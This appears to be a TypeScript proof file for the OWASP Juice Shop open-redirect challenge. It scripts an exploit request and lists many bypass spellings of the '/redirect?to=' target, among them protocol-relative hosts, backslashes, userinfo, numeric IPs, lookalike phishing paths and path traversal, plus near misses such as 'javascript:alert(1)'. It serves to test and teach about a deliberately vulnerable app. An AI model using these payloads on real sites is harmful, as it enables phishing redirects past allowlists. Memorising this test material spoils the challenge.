import { type Attack, type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

const SOURCES = 'https://github.com/juice-shop/juice-shop'
const BOOK = 'http://leanpub.com/juice-shop'

const follow = (attacker: Attacker, to: string) => attacker.get(`/redirect?to=${encodeURIComponent(to)}`)
const leadTo = (targets: Readonly<Record<string, string>>): Record<string, Attack> =>
  Object.fromEntries(
    Object.entries(targets).map(([title, to]): [string, Attack] => [title, (attacker) => follow(attacker, to)]),
  )

export const proof = prove(challenge, {
  exploit: (attacker) => attacker.get(`/redirect?to=https://example.org?x=${SOURCES}`),
  spellings: {
    ...leadTo({
      'an address as the value of a parameter': `https://elsewhere.test/?pwned=${SOURCES}`,
      'an address as a parameter': `https://elsewhere.test/?${BOOK}`,
      'an address behind a hash': `https://elsewhere.test/#${SOURCES}`,
      'an address as a path': `https://elsewhere.test/${BOOK}`,
      'a host without a protocol': `//elsewhere.test/?${SOURCES}`,
      'a backslash where browsers take one for a slash': `/\\elsewhere.test/?${SOURCES}`,
      'a name and a password in front of the host': `https://shop:juice@elsewhere.test/?${BOOK}`,
      'a blank before it': ` https://elsewhere.test/?x=${BOOK}`,
      'a port': `http://elsewhere.test:8080/login?next=${SOURCES}`,
      'an address of numbers': `http://203.0.113.7/?${SOURCES}`,
      'a neighbour on the same host': `https://github.com/somebody/else?${SOURCES}`,
      'a name that begins alike': `${SOURCES}-fan/phish`,
      'steps up from an address of the list': `${SOURCES}/../../somebody/else`,
    }),
    'nothing in percent signs': (attacker) => attacker.get(`/redirect?to=http://elsewhere.test/?${BOOK}`),
    'another parameter beside it': (attacker) => attacker.get(`/redirect?lang=en&to=https://elsewhere.test/${SOURCES}`),
  },
  nearMisses: {
    ...leadTo({
      'a page that the shop links to': SOURCES,
      'a page below one that the shop links to': `${SOURCES}/issues`,
      'a page that the shop links to, with words of a campaign': `${BOOK}?utm_source=shop`,
      'a place on a page that the shop links to': `${BOOK}#buy`,
      'somewhere else': 'https://elsewhere.test/',
      'somewhere else, with the host of a page alone': 'https://elsewhere.test/?github.com',
      'an address that is written with percent signs twice': `https://elsewhere.test/?${encodeURIComponent(SOURCES)}`,
      'an address that is cut off': `https://elsewhere.test/?${SOURCES.slice(0, -1)}`,
      'a script, which no browser follows': `javascript:alert(1)//${SOURCES}`,
      'a page of the shop itself': `/#/search?q=${SOURCES}`,
    }),
    'another name of the parameter': (attacker) => attacker.get(`/redirect?url=https://elsewhere.test/?${SOURCES}`),
    'no target at all': (attacker) => attacker.get('/redirect'),
  },
  bypasses: {
    'look-at-the-beginning': (attacker) => follow(attacker, `${SOURCES}-fan/phish`),
    'know-the-hosts': (attacker) => follow(attacker, 'https://github.com/somebody/else'),
  },
})
